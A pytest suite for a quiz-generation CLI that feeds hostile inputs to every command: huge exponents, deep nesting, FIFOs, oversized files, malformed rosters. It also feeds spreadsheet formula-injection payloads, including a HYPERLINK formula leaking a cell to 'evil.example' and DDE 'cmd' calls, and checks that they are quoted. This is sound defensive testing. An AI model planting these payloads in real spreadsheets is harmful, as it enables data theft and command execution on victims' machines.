"""A hostile-input corpus run through every command: each case ends within a time bound in a clear one-line
error (exit 2, no traceback) or a correct result, and writes nothing when it fails.

The corpus: huge exponents as numbers and strings (TOML, JSON, answers, responses), over-long integers,
deep nesting of arrays and inline tables, a FIFO, a symlink to /dev/zero, a directory, UTF-8 BOMs (accepted),
files over 1 MB, rosters with a NUL byte, an unterminated quote or a 200 kB field, and roster names that a
spreadsheet would run as formulas (quoted in manifest.csv and gradebook.csv)."""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import signal
from pathlib import Path

import pytest

from worked.cli import main

ROOT = Path(__file__).resolve().parents[1]
GOOD = (ROOT / "worked" / "data" / "cats-chase-mice.toml").read_text(encoding="utf-8")
SPEC = (ROOT / "problems" / "quiz-1.toml").read_text(encoding="utf-8")
BOUND = 15   # seconds any one case may take (the cases fixed here hung for ever, or for minutes)


@contextlib.contextmanager
def bounded(seconds: float):
    def stop(signum, frame):
        raise AssertionError(f"took longer than {seconds} s")

    old = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def run(capsys, *args) -> tuple[int, str, str]:
    with bounded(BOUND):
        try:
            code = main([str(a) for a in args])
        except SystemExit as exc:   # argparse
            code = exc.code
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_line_error(code, err, *words):
    assert code == 2, err
    assert err.startswith("error: ") and err.strip().count("\n") == 0, err
    assert "Traceback" not in err and "set_int_max_str_digits" not in err and "utf-8-sig" not in err
    for w in words:
        assert w in err, err


def toml_with_x00(value: str) -> str:
    return GOOD.replace("X   = [[1, 0,", f"X   = [[{value}, 0,", 1)


# name → (file name, bytes); every one of them is a problem file that must be refused
BAD_PROBLEMS = {
    "exponent-number": ("p.toml", toml_with_x00("1e99999999"), "exponent"),
    "exponent-string": ("p.toml", toml_with_x00('"1e99999999"'), "exponent"),
    "negative-exponent-string": ("p.toml", toml_with_x00('"1e-99999999"'), "exponent"),
    "exponent-json": ("p.json", json.dumps({"X": [[1]]})[:-3] + "1e99999999]]}", "exponent"),
    "long-integer-toml": ("p.toml", toml_with_x00("1" * 5000), "digits"),
    "long-integer-json": ("p.json", '{"X": [[' + "1" * 5000 + "]]}", "digits"),
    "integer-of-200-digits": ("p.toml", toml_with_x00("1" * 200), "more than 100 digits"),
    "long-decimal": ("p.toml", toml_with_x00('"0.' + "0" * 5000 + '1"'), "digits"),
    "long-fraction": ("p.toml", toml_with_x00('"1/' + "7" * 5000 + '"'), "digits"),
    "deep-array-toml": ("p.toml", "X = " + "[" * 5000 + "]" * 5000 + "\n", "nested too deeply"),
    "deep-array-json": ("p.json", '{"X": ' + "[" * 5000 + "]" * 5000 + "}", "nested too deeply"),
    "deep-inline-table": ("p.toml", "X = " + "{a=" * 3000 + "1" + "}" * 3000 + "\n", "nested too deeply"),
    "deep-but-parsable": ("p.json", '{"X": ' + "[" * 900 + "]" * 900 + "}", "X"),
    "over-1-MB": ("p.toml", GOOD + "#" * 1_000_001, "larger than"),
    "not-utf8": ("p.toml", b"title = \"\xff\"\n", "not UTF-8"),
}


def write(path: Path, data) -> Path:
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


@pytest.fixture
def odd_files(tmp_path):
    """A FIFO, a symlink to /dev/zero and a directory, each named like a problem file."""
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.toml"
    zero.symlink_to("/dev/zero")
    folder = tmp_path / "folder.toml"
    folder.mkdir()
    return {"FIFO": fifo, "device": zero, "directory": folder}


def problem_commands(path: Path, tmp: Path):
    answers = write(tmp / "answers.toml", 'Q = [[1, 0], [0, 2], [1, 1]]\n')
    return {"solve": ["solve", path], "check": ["check", path, answers],
            "sheet": ["sheet", path, "-o", tmp / "out", "--format", "html,tex"],
            "notebook": ["notebook", path, "-o", tmp / "out.ipynb"]}


@pytest.mark.parametrize("case", sorted(BAD_PROBLEMS))
def test_bad_problem_files_are_refused_by_every_command(case, tmp_path, capsys):
    name, data, word = BAD_PROBLEMS[case]
    path = write(tmp_path / name, data)
    for cmd, args in problem_commands(path, tmp_path).items():
        code, out, err = run(capsys, *args)
        assert_one_line_error(code, err, word)
        assert not (tmp_path / "out").exists() and not (tmp_path / "out.ipynb").exists(), cmd


def test_odd_files_are_refused_without_reading_them(odd_files, tmp_path, capsys):
    """A FIFO would block for ever and /dev/zero never ends: both are refused from fstat, before reading."""
    for what, path in odd_files.items():
        for cmd, args in problem_commands(path, tmp_path).items():
            code, _, err = run(capsys, *args)
            assert_one_line_error(code, err, what)
            assert not (tmp_path / "out").exists(), cmd
        code, _, err = run(capsys, "check", ROOT / "problems" / "cats-chase-mice.toml", path)
        assert_one_line_error(code, err, what)
        code, _, err = run(capsys, "quiz", path, "-o", tmp_path / "q")
        assert_one_line_error(code, err, what)
        code, _, err = run(capsys, "quiz", write(tmp_path / "spec.toml", SPEC), "--roster", path, "-o", tmp_path / "q")
        assert_one_line_error(code, err, what)
        assert not (tmp_path / "q").exists()


def test_a_bom_is_accepted_in_toml_and_json(tmp_path, capsys):
    """Files saved by Windows editors start with a UTF-8 BOM: problem, answers and spec files read as without."""
    plain = run(capsys, "solve", ROOT / "problems" / "cats-chase-mice.toml")
    p = write(tmp_path / "p.toml", "\ufeff" + GOOD)
    assert run(capsys, "solve", p) == plain
    pj = write(tmp_path / "p.json", "\ufeff" + json.dumps({"X": [[1, 0], [0, 1]], "W_Q": [[1, 0], [0, 1]],
                                                           "W_K": [[1, 0], [0, 1]], "W_V": [[1, 0], [0, 1]]}))
    assert run(capsys, "solve", pj)[0] == 0
    for ext, text in (("toml", '\ufeffQ = [["1", 0], [0, 2], [1, 1]]\n'), ("json", '\ufeff{"Q": [["1", 0], [0, 2], [1, 1]]}')):
        code, out, err = run(capsys, "check", p, write(tmp_path / f"a.{ext}", text), "--format", "json")
        assert code in (0, 1) and json.loads(out)["matrices"]["Q"], err
    spec = write(tmp_path / "spec.toml", "\ufeff" + SPEC)
    code, _, err = run(capsys, "quiz", spec, "-n", "1", "-o", tmp_path / "q", "--format", "html", "--jobs", "1", "--quiet")
    assert code == 0, err


@pytest.mark.parametrize("answer", ["1e99999999", "1e-99999999", "1e9999999", "2^99999999", "e^(1e99999)",
                                    "9" * 399, "(" * 200 + "1" + ")" * 200])
def test_hostile_answers_are_invalid_entries_not_hangs(answer, tmp_path, capsys):
    """An answer entry that would cost minutes is one invalid entry (exit 1), the others still judged."""
    answers = write(tmp_path / "a.toml", f'Q = [[{json.dumps(answer)}, 0], [0, 2], [1, 1]]\n')
    code, out, err = run(capsys, "check", ROOT / "problems" / "cats-chase-mice.toml", answers, "--format", "json")
    assert code == 1, err
    rep = json.loads(out)
    assert rep["summary"]["invalid"] == 1 and rep["summary"]["correct"] + rep["summary"]["wrong"] == 5


@pytest.mark.parametrize("case,text,word", [
    ("exponent", 'Q = [[1e99999999, 0], [0, 2], [1, 1]]\n', None),
    ("deep", "Q = " + "[" * 5000 + "]" * 5000 + "\n", "nested too deeply"),
    ("long-integer", "Q = [[" + "1" * 5000 + "]]\n", "digits"),
])
def test_hostile_answers_files(case, text, word, tmp_path, capsys):
    code, out, err = run(capsys, "check", ROOT / "problems" / "cats-chase-mice.toml", write(tmp_path / "a.toml", text))
    if word is None:
        assert code == 1 and "exponent" in out
    else:
        assert_one_line_error(code, err, word)


def test_a_spec_over_1_mb_is_refused(tmp_path, capsys):
    spec = write(tmp_path / "spec.toml", SPEC + "#" * 1_000_001)
    code, _, err = run(capsys, "quiz", spec, "-o", tmp_path / "q")
    assert_one_line_error(code, err, "larger than 1000000 bytes")
    assert not (tmp_path / "q").exists()


@pytest.mark.parametrize("case,text,word", [
    ("nul", "id,name,extra\ns1,Ada,x\0y\n", "NUL"),
    ("unterminated-quote", 'id,name\ns1,Ada\ns2,"Bob\n', "never closed"),
    ("huge-field", "id,name\ns1," + "A" * 200_000 + "\n", "longer than"),
    ("control-character", "id,name\ns1,A\x07da\n", "U+0007"),
])
def test_bad_rosters_are_refused(case, text, word, tmp_path, capsys):
    spec = write(tmp_path / "spec.toml", SPEC)
    roster = write(tmp_path / "roster.csv", text)
    code, _, err = run(capsys, "quiz", spec, "--roster", roster, "-o", tmp_path / "q", "--quiet")
    assert_one_line_error(code, err, word, "roster.csv: line ")
    assert not (tmp_path / "q").exists()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tTab", "\rCR"]


@pytest.fixture
def quiz(tmp_path, capsys):
    spec = write(tmp_path / "spec.toml", SPEC)
    rows = [("s1", "Ada")] + [(f"s{k}", n) for k, n in enumerate(FORMULAS[:5], 2)] + [("=1+2", "Id formula")]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([("id", "name"), *rows])
    roster = write(tmp_path / "roster.csv", buf.getvalue())
    code, _, err = run(capsys, "quiz", spec, "--roster", roster, "-o", tmp_path / "q", "--format", "html",
                       "--jobs", "1", "--quiet")
    assert code == 0, err
    return tmp_path / "q", rows


def test_formula_cells_are_quoted_in_manifest_and_gradebook(quiz, tmp_path, capsys):
    """OWASP: a cell that begins with = + - @ (or a tab or CR) gets a leading ' so no spreadsheet runs it;
    numbers stay numbers; manifest.json keeps the names as typed."""
    qdir, rows = quiz
    manifest = list(csv.reader(io.StringIO((qdir / "manifest.csv").read_text(encoding="utf-8"))))
    names = {r[1]: r[2] for r in manifest[1:]}
    for sid, name in rows:
        assert names[("'" + sid) if sid.startswith("=") else sid] == (("'" + name) if name[0] in "=+-@" else name)
    for r in manifest[1:]:
        for c in r:
            assert not c.startswith(("=", "+", "@", "\t", "\r")) and (not c.startswith("-") or float(c) < 0)
    data = json.loads((qdir / "manifest.json").read_text(encoding="utf-8"))
    assert {(s["student"] or {}).get("name") for s in data["variants"]} >= {n for _, n in rows}
    responses = write(tmp_path / "responses.csv", "id,scores[2,3]\ns1,0.5\n")
    code, _, err = run(capsys, "grade", qdir, responses, "-o", tmp_path / "g")
    assert code == 0, err
    book = list(csv.reader(io.StringIO((tmp_path / "g" / "gradebook.csv").read_text(encoding="utf-8"))))
    for r in book:
        for c in r:
            assert not c.startswith(("=", "+", "@", "\t", "\r", "-")), r


@pytest.mark.parametrize("case,text,word", [
    ("huge-field", "id,scores[2,3]\ns1," + "1" * 500_000 + "\n", "longer than"),
    ("over-1-MB", "id,scores[2,3]\ns1," + "1" * 1_000_001 + "\n", "larger than"),
    ("nul", "id,scores[2,3]\ns1,1\x002\n", "NUL"),
    ("unterminated-quote", 'id,scores[2,3]\ns1,"12\n', "never closed"),
])
def test_bad_responses_are_refused_and_nothing_is_written(case, text, word, quiz, tmp_path, capsys):
    qdir, _ = quiz
    code, _, err = run(capsys, "grade", qdir, write(tmp_path / "responses.csv", text), "-o", tmp_path / "g")
    assert_one_line_error(code, err, word)
    assert not (tmp_path / "g").exists()


@pytest.mark.parametrize("answer", ["1e9999999", "1e99999999", "1e-99999999"])
def test_hostile_responses_are_graded_wrong_in_bounded_time(answer, quiz, tmp_path, capsys):
    qdir, _ = quiz
    code, _, err = run(capsys, "grade", qdir, write(tmp_path / "responses.csv", f"id,scores[2,3]\ns1,{answer}\n"),
                       "-o", tmp_path / "g")
    assert code == 0, err
    book = list(csv.DictReader(io.StringIO((tmp_path / "g" / "gradebook.csv").read_text(encoding="utf-8"))))
    assert next(r for r in book if r["id"] == "s1")["scores[2,3]"] == "0"
